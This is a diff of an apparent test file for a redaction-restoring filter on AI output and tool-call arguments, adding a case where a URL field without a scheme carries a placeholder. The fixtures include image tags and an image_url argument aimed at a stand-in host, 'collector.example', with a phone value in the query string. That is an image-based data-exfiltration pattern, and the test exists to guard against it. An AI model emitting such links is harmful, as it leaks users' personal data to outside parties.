@@ -32,8 +32,9 @@ SAID = (f"Done. ![status]({IMAGE})\n<img src=\"//collector.example/i.gif?t={P}\"
         f"Your address is {E}, [mail]({'mailto:' + E}), [call](tel:{P}).")
 WANT = (f"Done. ![status]({IMAGE})\n<img src=\"//collector.example/i.gif?t={P}\"> "
         f"Your address is {MAIL}, [mail](mailto:{MAIL}), [call](tel:{PHONE}).")
-ARGS = {"url": FETCH, "to": E, "note": f"call {P}"}
-WANT_ARGS = {"url": FETCH, "to": MAIL, "note": f"call {PHONE}"}
+# A URL field without a scheme is a URL all the same (decoded whole, or read as its JSON key streams by).
+ARGS = {"url": FETCH, "image_url": f"collector.example/i?t={P}", "to": E, "note": f"call {P}"}
+WANT_ARGS = {"url": FETCH, "image_url": f"collector.example/i?t={P}", "to": MAIL, "note": f"call {PHONE}"}
 
 RESTORE_ONLY = """
 name: default
